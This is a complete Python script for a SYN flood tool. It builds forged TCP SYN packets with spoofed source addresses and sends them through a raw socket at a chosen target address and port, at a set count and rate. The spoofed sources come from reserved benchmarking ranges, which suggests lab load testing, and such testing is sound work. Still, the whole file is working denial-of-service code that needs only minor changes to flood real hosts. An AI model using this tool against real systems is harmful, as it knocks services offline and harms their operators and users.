#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""Sends forged TCP SYNs: syn_flood.py DEVICE TO-MAC FROM-MAC ADDRESS PORT --count N --rate N

Each comes from another address, of 198.18.0.0/15 (RFC 2544) or 2001:2::/48 (RFC 5180), whose hosts answer nothing. At most
--count SYNs are sent, about --rate in a second.
"""
import argparse
import ipaddress
import socket
import struct
import time

SOURCES = {4: '198.18.0.0', 6: '2001:2::'}
BURST_S = 0.01


def ones_sum(data):
    """The sum of 16-bit words of RFC 1071."""
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return total


def syn(source, target, sport, dport, seq):
    """An IP packet."""
    tcp = struct.pack('!HHIIBBHHHBBH', sport, dport, seq, 0, 6 << 4, 2, 64000, 0, 0, 2, 4, 1460)
    if len(target) == 16:
        pseudo, ip = struct.pack('!II', len(tcp), 6), struct.pack('!IHBB', 6 << 28, len(tcp), 6, 64)
    else:
        pseudo = struct.pack('!HH', 6, len(tcp))
        ip = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(tcp), seq & 0xffff, 0, 64, 6, 0)
        ip = ip[:10] + struct.pack('!H', ones_sum(ip + source + target) ^ 0xffff)
    checksum = ones_sum(source + target + pseudo + tcp) ^ 0xffff
    return ip + source + target + tcp[:16] + struct.pack('!H', checksum) + tcp[18:]


def main():
    """Burst after burst."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument('device')
    parser.add_argument('to_mac')
    parser.add_argument('from_mac')
    parser.add_argument('address', type=ipaddress.ip_address)
    parser.add_argument('port', type=int)
    parser.add_argument('--count', type=int, required=True)
    parser.add_argument('--rate', type=int, required=True)
    o = parser.parse_args()
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((o.device, 0))
    ethernet = bytes.fromhex((o.to_mac + o.from_mac).replace(':', '')) + \
        struct.pack('!H', 0x86dd if o.address.version == 6 else 0x0800)
    sources = ipaddress.ip_address(SOURCES[o.address.version])
    began, sent = time.monotonic(), 0
    while sent < o.count:
        due = min(o.count, int((time.monotonic() - began) * o.rate) + 1)
        for n in range(sent, due):
            out.send(ethernet + syn((sources + n % 65536 + 1).packed, o.address.packed, 1024 + n % 60000, o.port,
                                    n * 2654435761 % 2**32))
        sent = max(sent, due)
        time.sleep(BURST_S)
    print(f'{sent} SYNs in {time.monotonic() - began:.1f} s')


if __name__ == '__main__':
    main()
